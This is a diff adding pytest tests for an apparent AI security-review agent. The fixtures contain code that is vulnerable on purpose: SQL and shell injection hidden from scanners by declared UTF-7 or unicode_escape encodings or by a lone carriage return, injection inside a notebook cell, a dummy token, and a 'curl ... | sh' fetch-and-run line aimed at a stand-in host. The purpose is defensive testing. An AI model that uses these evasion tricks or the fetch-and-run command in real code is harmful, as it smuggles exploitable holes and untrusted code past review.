@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 
 import pytest
@@ -80,6 +81,134 @@ def test_undecodable_text_is_not_a_pass(tmp_path):
     result = run_agents(repo.change(), [SecurityAgent], config=FAST)
     _assert_at_best_escalate(result, "app/legacy.py")
     assert "not UTF-8" in _unread(result)["app/legacy.py"]
+
+
+HIDDEN_BY_ENCODING = {
+    # semgrep reads a comment; Python, decoding UTF-7, a return with a SQL injection
+    "utf-7": "# -*- coding: utf-7 -*-\n\n\ndef find(conn, name):\n"
+    "    # look-up +AAo-    return conn.execute(f\"SELECT * FROM t WHERE n = '{name}'\")\n",
+    "unicode_escape": "# -*- coding: unicode_escape -*-\nimport os\n\n\ndef ping(host):\n"
+    "    # ping it\\x0a    return os.system('ping ' + host)\n",
+}
+
+
+@pytest.mark.parametrize("encoding", sorted(HIDDEN_BY_ENCODING))
+def test_code_a_declared_encoding_hides_is_not_a_pass(tmp_path, encoding):
+    source = HIDDEN_BY_ENCODING[encoding]
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/db.py": source})
+    result = run_agents(repo.change(), [SecurityAgent])
+    _assert_at_best_escalate(result, "app/db.py")
+    assert f"declares the source encoding {encoding}" in _unread(result)["app/db.py"]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "# -*- coding: utf-8 -*-\nimport json\n\n\ndef parse(t):\n    return json.loads(t)\n",
+        # latin-1 declared over UTF-8 prose: mojibake in a docstring, the same code
+        '# -*- coding: latin-1 -*-\n"""Caf\u00e9 prices."""\nPRICE = 1\n',
+    ],
+)
+def test_a_declared_encoding_that_reads_the_same_code_passes(tmp_path, source):
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/db.py": source.encode()})
+    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
+    result.assert_verdict("PASS")
+    assert _unread(result) == {}
+
+
+def _notebook(*cells: tuple[str, list[str]]) -> str:
+    """A notebook as Jupyter writes it (``indent=1``): one source line to a line of JSON."""
+    doc = {
+        "cells": [
+            {"cell_type": kind, "metadata": {}, "source": source}
+            | ({"execution_count": None, "outputs": []} if kind == "code" else {})
+            for kind, source in cells
+        ],
+        "metadata": {},
+        "nbformat": 4,
+        "nbformat_minor": 5,
+    }
+    return json.dumps(doc, indent=1) + "\n"
+
+
+def test_a_notebooks_code_is_scanned_on_its_own_lines(tmp_path):
+    """Round-4 red team: a docs build runs the notebook; its shell injection PASSed."""
+    code = ["%matplotlib inline\n", "import os\n", "host = input()\n", "os.system('ping ' + host)"]
+    notebook = _notebook(("markdown", ["# Tour\n"]), ("code", code))
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"docs/tour.ipynb": notebook})
+    result = run_agents(repo.change(), [SecurityAgent])
+    result.assert_verdict("FAIL")
+    line = notebook.splitlines().index("    \"os.system('ping ' + host)\"") + 1
+    result.assert_finding("security.bandit.B605", path="docs/tour.ipynb", line=line)
+    result.assert_finding(
+        "security.semgrep.subprocess-shell-with-non-literal-command", path="docs/tour.ipynb"
+    )
+
+
+def test_a_notebook_of_ordinary_code_passes(tmp_path):
+    code = ["%matplotlib inline\n", "!pip list\n", "import json\n", "json.dumps({'a': 1})"]
+    notebook = _notebook(("markdown", ["# Tour\n"]), ("code", code), ("code", []))
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"docs/tour.ipynb": notebook})
+    result = run_agents(repo.change(), [SecurityAgent])
+    result.assert_verdict("PASS")
+    assert result.agent("security").analysed.files == ("docs/tour.ipynb",)
+
+
+def test_secrets_in_a_notebooks_outputs_are_found_in_whole_files(tmp_path):
+    """The code scanners read the code cells; detect-secrets still reads the whole notebook."""
+    token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
+    notebook = json.loads(_notebook(("code", ["import json\n", "json.dumps(1)"])))
+    notebook["cells"][0]["outputs"] = [
+        {"name": "stdout", "output_type": "stream", "text": [f"token {token}\n"]}
+    ]
+    text = json.dumps(notebook, indent=1) + "\n"
+    repo = make_repo(tmp_path / "r", {"docs/tour.ipynb": "{}\n"}, {"docs/tour.ipynb": text})
+    config = {"agents": {"security": {"whole_files": True, "skip": ["semgrep", "zizmor"]}}}
+    result = run_agents(repo.change(), [SecurityAgent], config=config)
+    assert any(f.rule_id.startswith("security.secrets.") for f in result.findings)
+    result.assert_verdict("FAIL")
+
+
+def test_a_notebook_cell_in_another_language_is_not_a_pass(tmp_path):
+    notebook = _notebook(("code", ["%%bash\n", "curl -s http://example.invalid/x.sh | sh\n"]))
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"docs/tour.ipynb": notebook})
+    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
+    _assert_at_best_escalate(result, "docs/tour.ipynb")
+
+
+LABEL = 'import os\n\n\ndef label(name):\n    return "item " + name\n'
+
+
+def test_a_line_break_only_python_sees_is_not_a_pass(tmp_path):
+    """Round-4 red team: after a lone CR the call was a comment to semgrep, and to the diff on no
+    changed line; bandit found it on Python's line 6."""
+    head = LABEL.replace("name\n", 'name  # label\r    os.system("lpr " + name)\n')
+    repo = make_repo(tmp_path / "r", {"app/label.py": LABEL}, {"app/label.py": head})
+    result = run_agents(repo.change(), [SecurityAgent])
+    _assert_at_best_escalate(result, "app/label.py")
+    assert "carriage return" in _unread(result)["app/label.py"]
+    result.assert_verdict("FAIL")  # read as Python reads it, every finding the change's
+    for rule in ("bandit.B605", "semgrep.subprocess-shell-with-non-literal-command"):
+        assert result.assert_finding(
+            f"security.{rule}", path="app/label.py", line=6
+        ).on_changed_line
+
+
+def test_a_harmless_line_break_only_python_sees_still_asks_a_lead(tmp_path):
+    head = LABEL.replace("name\n", "name  # label\r    # nothing else\n")
+    repo = make_repo(tmp_path / "r", {"app/label.py": LABEL}, {"app/label.py": head})
+    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
+    result.assert_verdict("ESCALATE")
+
+
+def test_windows_line_endings_are_read_as_usual(tmp_path):
+    head = LABEL.replace("name\n", 'name  # label\n    return os.system("lpr " + name)\n')
+    crlf = {"app/label.py": head.replace("\n", "\r\n").encode()}
+    repo = make_repo(tmp_path / "r", {"app/label.py": LABEL.replace("\n", "\r\n").encode()}, crlf)
+    result = run_agents(repo.change(), [SecurityAgent], config=FAST)
+    result.assert_verdict("FAIL")
+    assert _unread(result) == {}
+    result.assert_finding("security.bandit.B605", path="app/label.py", line=6)
 
 
 def test_submodule_pointer_is_not_a_pass(tmp_path):
